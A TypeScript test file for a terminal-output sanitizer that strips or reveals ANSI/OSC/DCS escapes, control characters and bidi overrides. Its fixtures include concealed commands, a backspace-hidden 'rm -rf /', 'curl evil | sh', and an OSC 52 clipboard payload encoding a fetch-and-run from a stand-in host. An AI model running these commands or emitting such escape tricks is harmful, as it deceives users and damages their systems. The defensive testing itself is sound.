import { assert, describe, it } from "vitest"
import { createStyle } from "../src/style.js"
import { plainText, terminalDoor, visibleText } from "../src/terminal-text.js"

const ESC = "\x1b"

// Every class of sequence a terminal obeys, with what is left once it is removed.
const cases: ReadonlyArray<readonly [string, string, string]> = [
  ["CSI SGR conceal", `echo hi ${ESC}[8m; touch pwned`, "echo hi ; touch pwned"],
  ["CSI cursor and erase", `a${ESC}[2J${ESC}[1;1H${ESC}[?1049hb`, "ab"],
  ["CSI with intermediates", `a${ESC}[0 qb`, "ab"],
  ["8-bit CSI", "a\x9b31mb", "ab"],
  ["OSC 52 clipboard, BEL", `a${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07b`, "ab"],
  ["OSC 52 clipboard, ST", `a${ESC}]52;c;Y3VybA==${ESC}\\b`, "ab"],
  ["OSC 8 hyperlink", `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`, "click"],
  ["OSC window title", `${ESC}]0;pwned\x07ok`, "ok"],
  ["8-bit OSC with ST", "a\x9d0;title\x9cb", "ab"],
  ["DCS", `a${ESC}P1$qm${ESC}\\b`, "ab"],
  ["8-bit DCS", "a\x90q#0\x9cb", "ab"],
  ["APC", `a${ESC}_payload${ESC}\\b`, "ab"],
  ["PM", `a${ESC}^privacy${ESC}\\b`, "ab"],
  ["SOS", `a${ESC}Xstring${ESC}\\b`, "ab"],
  ["unterminated OSC swallows the rest, as a terminal would", `ok${ESC}]52;c;aGk=`, "ok"],
  ["reset", `a${ESC}cb`, "ab"],
  ["DEC screen alignment", `a${ESC}#8b`, "ab"],
  ["charset designation", `a${ESC}(0b`, "ab"],
  ["bare ESC at the end", `ab${ESC}`, "ab"],
  ["BEL", "a\x07b", "ab"],
  ["backspace overwriting", "rm -rf /\b\b\b\b\b\b\b\bls     ", "rm -rf /ls     "],
  ["carriage return overwriting", "curl evil | sh\rls            ", "curl evil | shls            "],
  ["NUL, vertical tab, form feed, DEL", "a\x00\x0b\x0c\x7fb", "ab"],
  ["C1 controls", "a\x84\x85\x8db", "ab"],
  ["bidi overrides and isolates", "a\u202ab\u202bc\u202cd\u202de\u202ef\u2066g\u2067h\u2068i\u2069j", "abcdefghij"]
]

describe("plainText", () => {
  for (const [name, input, expected] of cases)
    it(`removes ${name}`, () => {
      assert.strictEqual(plainText(input), expected)
      // biome-ignore lint/suspicious/noControlCharactersInRegex: no control character may be left
      assert.notMatch(plainText(input), /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/)
    })

  it("keeps tab, newline and every printable character, and returns clean text as it is", () => {
    const text = "a\tb\nc — ünïcödé ✓ 中文 עברית 🙂 \\x1b [31m"
    assert.strictEqual(plainText(text), text)
  })

  it("leaves harmless remains when a sequence is split across streamed chunks", () => {
    const chunks = [`x${ESC}`, "]52;c;aGk=", `\x07y${ESC}[`, "8mz"]
    const out = chunks.map(plainText).join("")
    assert.notInclude(out, ESC)
    assert.notInclude(out, "\x07")
    assert.strictEqual(out, "x]52;c;aGk=y8mz")
  })

  it("lets Lathe style the cleaned text", () => {
    const style = createStyle(true)
    assert.strictEqual(style.red(plainText(`${ESC}[8mhidden`)), `${ESC}[31mhidden${ESC}[39m`)
  })
})

describe("visibleText", () => {
  it("shows the hiding escape of a command instead of obeying it", () => {
    assert.strictEqual(visibleText(`echo hi ${ESC}[8m; touch pwned`), "echo hi ␛[8m; touch pwned")
  })

  it("shows every control character and bidi override, and keeps tab and newline", () => {
    assert.strictEqual(
      visibleText(`a${ESC}]52;c;aGk=\x07\r\b\x00\x7f\x9b\u202e\u2066\tz\n`),
      "a␛]52;c;aGk=␇␍␈␀␡<U+009B><U+202E><U+2066>\tz\n"
    )
  })

  it("returns clean text as it is", () => {
    assert.strictEqual(visibleText("git status && ls -la"), "git status && ls -la")
  })
})

describe("terminalDoor", () => {
  const style = createStyle(true)

  it("lets Lathe's own styling and the live line's redraw through", () => {
    const own = `${style.green("✓")} bash ${style.dim(style.bold("(12 ms)"))}\n`
    assert.strictEqual(terminalDoor(own), own)
    assert.strictEqual(terminalDoor("\r\x1b[2K"), "\r\x1b[2K")
    assert.strictEqual(terminalDoor(`\r${style.cyan("⠋")} bash\x1b[K`), `\r${style.cyan("⠋")} bash\x1b[K`)
  })

  for (const [name, input, expected] of cases)
    it(`removes ${name}`, () => {
      assert.strictEqual(terminalDoor(input), expected)
    })

  it("removes SGR codes Lathe never uses (conceal, black on black), whatever was missed upstream", () => {
    assert.strictEqual(terminalDoor(`a${ESC}[8mb${ESC}[30;40mc${ESC}[38;5;16md`), "abcd")
    assert.strictEqual(terminalDoor(`a${ESC}[1;8mb`), "ab")
  })

  it("keeps a carriage return only where a write starts", () => {
    assert.strictEqual(terminalDoor("\rline\rover"), "\rlineover")
  })
})
